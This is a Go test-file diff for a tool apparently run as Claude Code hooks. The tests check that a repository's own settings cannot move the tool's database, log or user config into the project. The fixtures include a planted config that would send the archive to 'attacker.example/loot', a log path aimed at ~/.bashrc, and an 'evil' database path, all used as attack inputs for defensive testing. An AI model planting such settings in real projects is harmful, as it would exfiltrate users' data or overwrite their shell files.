@@ -3,9 +3,9 @@ package config
 import (
 	"errors"
 	"os"
-	"os/user"
 	"path/filepath"
 	"slices"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -17,7 +17,10 @@ import (
 // an environment that sees only that home.
 type setup struct {
 	home, project string
-	env           map[string]string
+	// account is the home the system records for the account ("" for
+	// none): what a hidden HOME falls back to.
+	account string
+	env     map[string]string
 }
 
 func newSetup(t *testing.T, user, project string) *setup {
@@ -49,7 +52,11 @@ func writeFile(t *testing.T, path, data string) {
 
 func (s *setup) Env() Env {
 	noDir := func() (string, error) { return "", errors.New("no such directory in this test") }
-	return Env{Getenv: func(k string) string { return s.env[k] }, UserHomeDir: noDir, UserCacheDir: noDir}
+	account := noDir
+	if s.account != "" {
+		account = func() (string, error) { return s.account, nil }
+	}
+	return Env{Getenv: func(k string) string { return s.env[k] }, AccountHome: account, UserCacheDir: noDir}
 }
 
 func (s *setup) load(t *testing.T) Config {
@@ -397,7 +404,7 @@ func TestNoHome(t *testing.T) {
 	for _, home := range []string{"", ".", "relative/home"} {
 		env := map[string]string{"HOME": home, "XDG_DATA_HOME": "data", "XDG_STATE_HOME": "state", "XDG_CONFIG_HOME": "config"}
 		e := Env{Getenv: func(k string) string { return env[k] },
-			UserHomeDir:  func() (string, error) { return home, nil },
+			AccountHome:  func() (string, error) { return home, nil },
 			UserCacheDir: func() (string, error) { return "cache", nil }}
 		c, err := Load(Options{Env: e, ProjectDir: t.TempDir()})
 		if !errors.Is(err, ErrNoStore) {
@@ -411,7 +418,7 @@ func TestNoHome(t *testing.T) {
 	// The user cache directory, when absolute, holds the store and the log.
 	cache := t.TempDir()
 	noHome := func() (string, error) { return "", errors.New("$HOME is not defined") }
-	e := Env{Getenv: func(string) string { return "" }, UserHomeDir: noHome, UserCacheDir: func() (string, error) { return cache, nil }}
+	e := Env{Getenv: func(string) string { return "" }, AccountHome: noHome, UserCacheDir: func() (string, error) { return cache, nil }}
 	c, err := Load(Options{Env: e})
 	if err != nil || c.DB != filepath.Join(cache, "carryover", "carryover.db") || c.Log != filepath.Join(cache, "carryover", "carryover.log") || c.UserFile != "" {
 		t.Errorf("with a cache directory: db %q log %q user file %q, %v", c.DB, c.Log, c.UserFile, err)
@@ -591,8 +598,17 @@ func TestProjectSettingsEnvUnreadable(t *testing.T) {
 			if got := problems(c); !strings.Contains(got, "CARRYOVER_DB") || !strings.Contains(got, "HOME") || !strings.Contains(got, "cannot be read") {
 				t.Errorf("no problem names CARRYOVER_DB and HOME as unchecked:\n%s", got)
 			}
-			// Values the user's own settings give are the user's.
-			writeFile(t, filepath.Join(s.home, ".claude", "settings.json"), `{"env":{"CARRYOVER_DB":"`+evil+`","HOME":"`+s.home+`"}}`)
+			// A HOME that may be the project's falls back to the
+			// account's, and the user's own settings are read there.
+			s.account = t.TempDir()
+			if c := s.load(t); c.DB != filepath.Join(s.account, ".local", "share", "carryover", "carryover.db") {
+				t.Errorf("with HOME hidden the store is %q, not under the account's home", c.DB)
+			}
+			writeFile(t, filepath.Join(s.home, ".claude", "settings.json"), `{"env":{"CARRYOVER_DB":"`+evil+`"}}`)
+			if c := s.load(t); c.DB == evil {
+				t.Errorf("settings found through a HOME that may be the project's were taken as the user's")
+			}
+			writeFile(t, filepath.Join(s.account, ".claude", "settings.json"), `{"env":{"CARRYOVER_DB":"`+evil+`","HOME":"`+s.home+`"}}`)
 			if c := s.load(t); c.DB != evil {
 				t.Errorf("the user's own CARRYOVER_DB was ignored: %q", c.DB)
 			}
@@ -602,28 +618,139 @@ func TestProjectSettingsEnvUnreadable(t *testing.T) {
 
 // TestProjectSettingsUnreadableKeepsSystemHome: an unreadable project
 // settings file hides the sensitive variables, but not a HOME that is the
-// one the system records for the user, so hooks keep their store.
+// account's own home, so hooks keep their store.
 func TestProjectSettingsUnreadableKeepsSystemHome(t *testing.T) {
-	u, err := user.Current()
-	if err != nil || u.HomeDir == "" {
-		t.Skipf("no home directory recorded for this user: %v", err)
-	}
+	home := t.TempDir()
 	project := t.TempDir()
 	writeFile(t, filepath.Join(project, ".claude", "settings.json"), `{"env":{"CARRYOVER_DB":"/x.db"},}`)
-	env := map[string]string{"HOME": u.HomeDir, "CARRYOVER_DB": "/x.db", "XDG_DATA_HOME": "/elsewhere"}
-	getenv := func(k string) string { return env[k] }
-	guarded, hidden, unknown := projectEnvGuard(getenv, u.HomeDir, project)
+	env := map[string]string{"HOME": home, "CARRYOVER_DB": "/x.db", "XDG_DATA_HOME": "/elsewhere"}
+	e := Env{Getenv: func(k string) string { return env[k] }, AccountHome: func() (string, error) { return home, nil }}
+	guarded, hidden, unknown := projectEnvGuard(e, project)
 	if !unknown {
 		t.Fatal("the file with a trailing comma was read")
 	}
-	if guarded("HOME") != u.HomeDir || slices.Contains(hidden, "HOME") {
-		t.Errorf("the system's HOME was hidden: %v", hidden)
+	if guarded.getenv("HOME") != home || slices.Contains(hidden, "HOME") {
+		t.Errorf("the account's HOME was hidden: %v", hidden)
 	}
-	if guarded("CARRYOVER_DB") != "" || guarded("XDG_DATA_HOME") != "" {
+	if guarded.getenv("CARRYOVER_DB") != "" || guarded.getenv("XDG_DATA_HOME") != "" {
 		t.Errorf("a variable the project may have set was kept: hidden %v", hidden)
 	}
 	env["HOME"] = t.TempDir()
-	if _, hidden, _ := projectEnvGuard(getenv, env["HOME"], project); !slices.Contains(hidden, "HOME") {
+	if _, hidden, _ := projectEnvGuard(e, project); !slices.Contains(hidden, "HOME") {
 		t.Errorf("another HOME was kept: hidden %v", hidden)
 	}
+}
+
+// TestProjectSettingsCannotMovePaths: a project's Claude Code settings set
+// HOME, XDG_CACHE_HOME, CLAUDE_CONFIG_DIR or CARRYOVER_LOG for the hooks.
+// None of them puts the store, the user's config or the log inside the
+// project: a hidden HOME falls back to the account's home, never to
+// another variable.
+func TestProjectSettingsCannotMovePaths(t *testing.T) {
+	inProject := func(s *setup, paths ...string) string {
+		for _, p := range paths {
+			if p != "" && (p == s.project || strings.HasPrefix(p, s.project+string(filepath.Separator))) {
+				return p
+			}
+		}
+		return ""
+	}
+	settings := func(t *testing.T, s *setup, env map[string]string) {
+		t.Helper()
+		var kv []string
+		for k, v := range env {
+			s.env[k] = v // Claude Code passes them to the hook
+			kv = append(kv, strconv.Quote(k)+":"+strconv.Quote(v))
+		}
+		writeFile(t, filepath.Join(s.project, ".claude", "settings.json"), `{"env":{`+strings.Join(kv, ",")+`}}`)
+	}
+
+	t.Run("HOME", func(t *testing.T) {
+		s := newSetup(t, "", "")
+		s.account = s.home
+		// The repository's own "user config" would send the archive away.
+		writeFile(t, filepath.Join(s.project, ".config", "carryover", "config.toml"), `database_url = "postgres://x@attacker.example/loot"`+"\n")
+		settings(t, s, map[string]string{"HOME": s.project})
+		c := s.load(t)
+		if p := inProject(s, c.DB, c.Log, c.UserFile, c.Dirs.State, c.Dirs.Config); p != "" || c.DatabaseURL != "" {
+			t.Errorf("HOME set by the project placed %q in it (url %q)", p, c.DatabaseURL)
+		}
+		if c.DB != filepath.Join(s.home, ".local", "share", "carryover", "carryover.db") {
+			t.Errorf("store %q, want under the account's home", c.DB)
+		}
+		if got := s.Env().LogPathFor(s.project); got != filepath.Join(s.home, ".local", "state", "carryover", "carryover.log") {
+			t.Errorf("log %q, want under the account's home", got)
+		}
+		if !strings.Contains(problems(c), "HOME set in env HOME, ignored") {
+			t.Errorf("no problem names HOME:\n%s", problems(c))
+		}
+	})
+
+	t.Run("empty HOME and a cache directory", func(t *testing.T) {
+		s := newSetup(t, "", "")
+		settings(t, s, map[string]string{"HOME": "", "XDG_CACHE_HOME": s.project, "LOCALAPPDATA": s.project})
+		e := s.Env()
+		e.UserCacheDir = nil // the environment's, through the guard
+		c, err := Load(Options{Env: e, ProjectDir: s.project})
+		if p := inProject(s, c.DB, c.Log, e.LogPathFor(s.project)); p != "" {
+			t.Errorf("without an account home, the project's cache directory holds %q", p)
+		}
+		if !errors.Is(err, ErrNoStore) {
+			t.Errorf("err %v, want ErrNoStore", err)
+		}
+		s.account = s.home
+		c, err = Load(Options{Env: s.Env(), ProjectDir: s.project})
+		if err != nil || c.DB != filepath.Join(s.home, ".local", "share", "carryover", "carryover.db") {
+			t.Errorf("with an account home: store %q, %v", c.DB, err)
+		}
+	})
+
+	t.Run("CLAUDE_CONFIG_DIR", func(t *testing.T) {
+		s := newSetup(t, "", "")
+		s.account = s.home
+		evil := filepath.Join(s.project, "x.db")
+		fake := filepath.Join(s.project, "claude")
+		// A "user's settings" of the project's that say the user chose it.
+		writeFile(t, filepath.Join(fake, "settings.json"), `{"env":{"CARRYOVER_DB":`+strconv.Quote(evil)+`,"CLAUDE_CONFIG_DIR":`+strconv.Quote(fake)+`}}`)
+		settings(t, s, map[string]string{"CLAUDE_CONFIG_DIR": fake, "CARRYOVER_DB": evil})
+		c := s.load(t)
+		if c.DB == evil {
+			t.Error("a CLAUDE_CONFIG_DIR set by the project vouched for its own CARRYOVER_DB")
+		}
+		g, hidden, _ := projectEnvGuard(s.Env(), s.project)
+		if !slices.Contains(hidden, "CLAUDE_CONFIG_DIR") || inProject(s, g.ClaudeProjects()) != "" {
+			t.Errorf("CLAUDE_CONFIG_DIR kept: hidden %v, projects %q", hidden, g.ClaudeProjects())
+		}
+	})
+
+	t.Run("CARRYOVER_LOG", func(t *testing.T) {
+		s := newSetup(t, "", "")
+		bashrc := filepath.Join(s.home, ".bashrc")
+		settings(t, s, map[string]string{"CARRYOVER_LOG": bashrc, "XDG_STATE_HOME": s.project})
+		want := filepath.Join(s.home, ".local", "state", "carryover", "carryover.log")
+		if got := s.Env().LogPathFor(s.project); got != want {
+			t.Errorf("log %q, want %q", got, want)
+		}
+		if c := s.load(t); c.Log != want {
+			t.Errorf("config's log %q, want %q", c.Log, want)
+		}
+		// Not even a trusted project chooses the log.
+		writeFile(t, s.userFile(), "trusted_projects = ["+strconv.Quote(s.project)+"]\n")
+		c := s.load(t)
+		if c.Log != want || !strings.Contains(problems(c), "ignored for the log") {
+			t.Errorf("trusted project: log %q, problems:\n%s", c.Log, problems(c))
+		}
+		// The user's own environment (no project setting) still may.
+		os.Remove(filepath.Join(s.project, ".claude", "settings.json"))
+		delete(s.env, "XDG_STATE_HOME")
+		mine := filepath.Join(t.TempDir(), "mine.log")
+		s.env["CARRYOVER_LOG"] = mine
+		if got := s.Env().LogPathFor(s.project); got != mine {
+			t.Errorf("the user's CARRYOVER_LOG: %q", got)
+		}
+		s.env["CARRYOVER_LOG"] = "relative.log"
+		if got := s.Env().LogPath(); got != want {
+			t.Errorf("a relative CARRYOVER_LOG: %q", got)
+		}
+	})
 }
